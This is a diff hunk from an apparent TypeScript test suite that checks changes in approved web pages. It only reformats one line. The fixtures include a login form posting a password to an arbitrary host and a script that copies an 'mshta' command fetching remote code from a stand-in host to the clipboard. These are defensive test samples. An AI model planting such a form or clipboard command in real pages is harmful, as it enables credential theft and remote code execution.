@@ -197,7 +197,8 @@ describe("a page with the very words that were approved", () => {
     const before = toPagePicture(address, address, page("Units", lessons + then), "2026-11-01");
     return judgeAnswer(page("Units", lessons + now), before);
   };
-  const form = (to: string) => `<form action="https://${to}/g"><input name="id"><input type="password"></form>`;
+  const form = (to: string) =>
+    `<form action="https://${to}/g"><input name="id"><input type="password"></form>`;
   const command = "<script>onclick=()=>navigator.clipboard.writeText('mshta https://x.example/a')</script>";
 
   it("is asked about where it sends a password to strangers now, and not where it was approved so", () => {
